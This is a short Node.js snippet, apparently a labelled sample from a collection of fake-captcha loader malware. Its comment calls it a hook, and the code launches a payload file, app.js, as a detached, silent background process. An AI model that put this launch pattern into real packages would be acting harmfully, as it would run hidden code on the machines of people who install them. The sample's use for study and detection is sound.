// source: fake-captcha-loader corpus family: the hook starts the payload file as a process of its own
const { spawn } = require('child_process');
const path = require('path');
const app = path.join(__dirname, 'app.js');
spawn(process.execPath, [app], { detached: true, stdio: 'ignore' }).unref();
